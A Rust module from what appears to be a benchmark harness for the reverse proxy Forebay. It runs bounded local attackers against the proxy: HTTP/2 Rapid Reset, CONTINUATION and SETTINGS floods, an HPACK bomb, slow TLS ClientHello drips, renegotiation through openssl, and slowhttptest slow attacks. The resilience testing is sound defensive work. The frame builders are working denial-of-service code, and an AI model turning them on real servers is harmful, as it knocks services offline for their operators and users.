//! The attackers: a few clients with a bounded load and their own addresses, which reconnect when they are cut off.
//!
//! All of 127.0.0.0/8 is local. The four slow attacks use slowhttptest, and renegotiation uses OpenSSL's `s_client`;
//! the other attacks write their bytes here.

use std::io::{self, BufRead, BufReader, ErrorKind, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::{self, JoinHandle, sleep};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, anyhow};
use socket2::{Domain, Socket, Type};

use crate::attacks::{Attack, LENGTH};
use crate::machine::{Machine, Place};
use crate::secure::{Link, Manner, NAME};

/// Number of simultaneous attackers.
const ATTACKERS: u8 = 4;
/// Interval between two batches of frames on a connection.
const BEAT: Duration = Duration::from_millis(10);
/// Interval between two connections of an attacker.
const PAUSE: Duration = Duration::from_millis(20);
/// Number of frames or requests per batch; each attacker sends a hundred batches per second.
const BATCH: usize = 50;
/// Number of cancelled requests per batch.
const RESETS: usize = 20;
/// Number of connections on which an attacker cancels requests slowly, and the interval between two cancellations on
/// each: the fastest rate that Forebay allows.
const PACED: usize = 32;
const PACE: Duration = Duration::from_millis(50);
/// Number of ClientHellos that an attacker sends byte by byte, and the interval between two bytes of each.
const HELLOS: usize = 250;
const DRIP: Duration = Duration::from_millis(100);
/// Maximum time of a write to a proxy that does not read.
const PATIENCE: Duration = Duration::from_secs(1);
/// Number of connections of slowhttptest, and their rate per second.
const SLOW: &str = "1000";
const SLOW_RATE: &str = "250";

/// A running attack.
pub struct Attackers {
    over: Arc<AtomicBool>,
    tally: Arc<Tally>,
    threads: Vec<JoinHandle<Result<()>>>,
    tool: Option<Child>,
}

/// The counts of the attackers.
#[derive(Default)]
struct Tally {
    connections: AtomicU64,
    cut: AtomicU64,
}

impl Attackers {
    /// Starts an attack.
    pub fn begin(attack: Attack, machine: &Machine, address: SocketAddr) -> Result<Attackers> {
        let (over, tally) = (Arc::<AtomicBool>::default(), Arc::<Tally>::default());
        let mut attackers = Attackers { over, tally, threads: Vec::new(), tool: None };
        if let Some(arguments) = slowhttptest(attack) {
            let mut command = machine.load("nice");
            command.args(["-n", "10", "slowhttptest", "-c", SLOW, "-r", SLOW_RATE, "-i", "2"]);
            command.args(["-l", &LENGTH.as_secs().to_string(), "-o", "/dev/null"]).args(arguments);
            let path = if attack == Attack::SlowRead { "/1m" } else { "/small" };
            command.args(["-u", &format!("https://{address}{path}")]);
            command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
            attackers.tool = Some(command.spawn().context("slowhttptest, which `make bench` installs")?);
            return Ok(attackers);
        }
        for number in 1..=ATTACKERS {
            let attacker = Attacker {
                attack,
                address,
                from: attacker(number),
                place: machine.slow_clients(),
                over: attackers.over.clone(),
                tally: attackers.tally.clone(),
            };
            attackers.threads.push(thread::Builder::new().name("attacker".to_owned()).spawn(move || attacker.work())?);
        }
        Ok(attackers)
    }

    /// Ends the attack. Returns the number of connections, and how many of them the proxy cut off.
    pub fn finish(mut self) -> Result<(u64, u64)> {
        self.over.store(true, Ordering::Relaxed);
        for thread in std::mem::take(&mut self.threads) {
            thread.join().map_err(|_| anyhow!("an attacker panicked"))??;
        }
        let Tally { connections, cut } = &*self.tally;
        Ok((connections.load(Ordering::Relaxed), cut.load(Ordering::Relaxed)))
    }
}

impl Drop for Attackers {
    fn drop(&mut self) {
        self.over.store(true, Ordering::Relaxed);
        if let Some(tool) = &mut self.tool {
            // Neither fails for a child that was not waited for; otherwise there is nothing to kill.
            let _ = tool.kill();
            let _ = tool.wait();
        }
    }
}

fn slowhttptest(attack: Attack) -> Option<&'static [&'static str]> {
    Some(match attack {
        Attack::SlowHeaders => &["-H"],
        Attack::SlowBody => &["-B", "-s", "8192"],
        Attack::SlowRange => &["-R"],
        Attack::SlowRead => &["-X", "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "3"],
        _ => return None,
    })
}

/// One attacker.
struct Attacker {
    attack: Attack,
    address: SocketAddr,
    from: Ipv4Addr,
    place: Place,
    over: Arc<AtomicBool>,
    tally: Arc<Tally>,
}

/// The address of an attacker.
pub fn attacker(number: u8) -> Ipv4Addr {
    Ipv4Addr::new(127, 66, 6, number)
}

/// Connects from this address, so that limits per client apply to it and not to the fast client.
pub fn connect_from(from: Ipv4Addr, to: SocketAddr) -> Result<TcpStream> {
    let socket = Socket::new(Domain::for_address(to), Type::STREAM, None)?;
    socket.bind(&SocketAddr::from((from, 0)).into())?;
    socket.connect_timeout(&to.into(), PATIENCE)?;
    Ok(socket.into())
}

impl Attacker {
    fn work(&self) -> Result<()> {
        self.place.take()?;
        match self.attack {
            Attack::SlowHello => self.drip(),
            Attack::Handshakes => self.shake(),
            Attack::Renegotiation => self.renegotiate(),
            Attack::PacedReset => self.reset_slowly(),
            _ => self.flood(),
        }
    }

    fn is_over(&self) -> bool {
        self.over.load(Ordering::Relaxed)
    }

    fn socket(&self) -> Result<TcpStream> {
        let socket = connect_from(self.from, self.address)?;
        self.tally.connections.fetch_add(1, Ordering::Relaxed);
        Ok(socket)
    }

    /// An HTTP/2 connection over TLS. `None`: the proxy does not accept one now.
    fn speaking(&self) -> Option<Speaking> {
        let link = self.socket().and_then(|socket| Manner::h2().secure(socket)).ok()?;
        link.socket().set_nonblocking(true).ok()?;
        let mut speaking = Speaking { link, stream: 1 };
        speaking.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").then_some(())?;
        let opening = opening(self.attack, &mut speaking.stream);
        speaking.send(&opening).then_some(speaking)
    }

    fn cut(&self) {
        self.tally.cut.fetch_add(1, Ordering::Relaxed);
        sleep(PAUSE);
    }

    /// Opens one connection after the other, and sends frames on each until it ends.
    fn flood(&self) -> Result<()> {
        while !self.is_over() {
            let Some(mut speaking) = self.speaking() else {
                self.cut();
                continue;
            };
            let mut open = true;
            while open && !self.is_over() {
                let batch = batch(self.attack, &mut speaking.stream);
                open = speaking.send(&batch) && speaking.hear();
                sleep(BEAT);
            }
            if !open {
                self.cut();
            }
        }
        Ok(())
    }

    /// Opens many connections, and repeatedly cancels a request on each, below the rate limit.
    fn reset_slowly(&self) -> Result<()> {
        let mut crowd: Vec<Option<Speaking>> = (0..PACED).map(|_| None).collect();
        while !self.is_over() {
            let begun = Instant::now();
            for place in &mut crowd {
                let open = match place {
                    Some(speaking) => {
                        let pair = [get(speaking.stream), reset(speaking.stream)].concat();
                        speaking.stream += 2;
                        speaking.send(&pair) && speaking.hear()
                    }
                    None => {
                        *place = self.speaking();
                        place.is_some()
                    }
                };
                if !open && place.take().is_some() {
                    self.tally.cut.fetch_add(1, Ordering::Relaxed);
                }
            }
            sleep(PACE.saturating_sub(begun.elapsed()));
        }
        Ok(())
    }

    /// Performs complete handshakes one after the other, and closes each connection after it.
    fn shake(&self) -> Result<()> {
        while !self.is_over() {
            if self.socket().and_then(|socket| Manner::of(true).secure(socket)).is_err() {
                self.tally.cut.fetch_add(1, Ordering::Relaxed);
            }
            sleep(PAUSE);
        }
        Ok(())
    }

    /// Sends the beginning of a ClientHello of 512 bytes on many connections, and the rest byte by byte.
    fn drip(&self) -> Result<()> {
        const BEGUN: [u8; 11] = [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];
        let mut crowd: Vec<Option<TcpStream>> = (0..HELLOS).map(|_| None).collect();
        while !self.is_over() {
            let begun = Instant::now();
            for place in &mut crowd {
                match place {
                    Some(socket) => {
                        if socket.write_all(&[7]).is_err() {
                            self.tally.cut.fetch_add(1, Ordering::Relaxed);
                            *place = None;
                        }
                    }
                    None => {
                        let begin = || -> Result<TcpStream> {
                            let mut socket = self.socket()?;
                            socket.set_nonblocking(true)?;
                            socket.write_all(&BEGUN)?;
                            Ok(socket)
                        };
                        *place = begin().ok();
                    }
                }
            }
            sleep(DRIP.saturating_sub(begun.elapsed()));
        }
        Ok(())
    }

    /// Runs OpenSSL's client with TLS 1.2, which renegotiates five times on each connection.
    fn renegotiate(&self) -> Result<()> {
        while !self.is_over() {
            self.tally.connections.fetch_add(1, Ordering::Relaxed);
            let mut client = Command::new("openssl")
                .args(["s_client", "-tls1_2", "-connect", &self.address.to_string(), "-servername", NAME])
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .stderr(Stdio::null())
                .spawn()
                .context("openssl, which `make bench` installs")?;
            let mut input = client.stdin.take().context("its standard input")?;
            let output = BufReader::new(client.stdout.take().context("its standard output")?);
            // `s_client` prints the session once the first handshake is complete.
            let _ = output.lines().map_while(io::Result::ok).find(|line| line.contains("Verify return code"));
            for _ in 0..5 {
                // The connection may have been cut off.
                let _ = input.write_all(b"R\n");
                sleep(PACE);
            }
            if client.try_wait()?.is_some() {
                self.tally.cut.fetch_add(1, Ordering::Relaxed);
            } else {
                client.kill()?;
                client.wait()?;
            }
        }
        Ok(())
    }
}

/// An HTTP/2 connection with raw frames.
struct Speaking {
    link: Link,
    /// The id of the next stream.
    stream: u32,
}

impl Speaking {
    /// Sends bytes; returns whether the proxy accepts them.
    fn send(&mut self, mut bytes: &[u8]) -> bool {
        let begun = Instant::now();
        while !bytes.is_empty() {
            match self.link.write(bytes) {
                Ok(0) => return false,
                Ok(taken) => bytes = &bytes[taken..],
                Err(error) if error.kind() == ErrorKind::WouldBlock && begun.elapsed() < PATIENCE => {
                    if !self.hear() {
                        return false;
                    }
                    sleep(BEAT / 10);
                }
                Err(_) => return false,
            }
        }
        true
    }

    /// Reads the available bytes; returns whether the connection is still open.
    fn hear(&mut self) -> bool {
        let mut space = [0; 16384];
        loop {
            match self.link.read(&mut space) {
                Ok(0) => return false,
                Ok(_) => {}
                Err(error) => return error.kind() == ErrorKind::WouldBlock,
            }
        }
    }
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// A frame (RFC 9113 §4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The fields of a request in HPACK's static table: GET, or POST, of `/` or of `path`.
fn fields(method: u8, path: &str) -> Vec<u8> {
    let text = |text: &str| [&[text.len() as u8], text.as_bytes()].concat();
    [&[method, 0x87, 0x04][..], &text(path), &[0x01], &text(NAME)].concat()
}

fn get(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &fields(0x82, "/small"))
}

fn reset(stream: u32) -> Vec<u8> {
    const CANCEL: u32 = 8;
    frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())
}

/// The first frames on a connection, after the preface.
fn opening(attack: Attack, stream: &mut u32) -> Vec<u8> {
    let settings = |settings: &[u8]| frame(SETTINGS, 0, 0, settings);
    let post = || frame(HEADERS, END_HEADERS, 1, &fields(0x83, "/small"));
    match attack {
        Attack::TinyWindow => {
            let large = frame(HEADERS, END_STREAM | END_HEADERS, 1, &fields(0x82, "/64k"));
            [settings(&[0, 4, 0, 0, 0, 1]), large].concat()
        }
        Attack::EmptyData => [settings(&[]), post()].concat(),
        Attack::Continuation => [settings(&[]), frame(HEADERS, END_STREAM, 1, &[0x82])].concat(),
        Attack::HpackBomb => {
            *stream = 3;
            // A field of 4,000 bytes for HPACK's dynamic table.
            let field = [&fields(0x82, "/small")[..], &[0x40, 1, b'a', 0x7f, 0xa1, 0x1e], &[b'b'; 4_000]].concat();
            [settings(&[]), frame(HEADERS, END_STREAM | END_HEADERS, 1, &field)].concat()
        }
        _ => settings(&[]),
    }
}

/// The frames that are sent repeatedly.
fn batch(attack: Attack, stream: &mut u32) -> Vec<u8> {
    let many = |frame: Vec<u8>| frame.repeat(BATCH);
    match attack {
        Attack::RapidReset => (0..RESETS)
            .flat_map(|_| {
                *stream += 2;
                [get(*stream - 2), reset(*stream - 2)].concat()
            })
            .collect(),
        Attack::Continuation => many(frame(CONTINUATION, 0, 1, &[])),
        Attack::Settings => many(frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])),
        Attack::Pings => many(frame(PING, 0, 0, &[0; 8])),
        Attack::EmptyData => many(frame(DATA, 0, 1, &[])),
        Attack::TinyWindow => many(frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes())),
        Attack::HpackBomb => {
            // 10,000 references to the field in the table, one byte each.
            let bomb = [&fields(0x82, "/small")[..], &[0xbe; 10_000]].concat();
            *stream += 2;
            frame(HEADERS, END_STREAM | END_HEADERS, *stream - 2, &bomb)
        }
        _ => Vec::new(),
    }
}
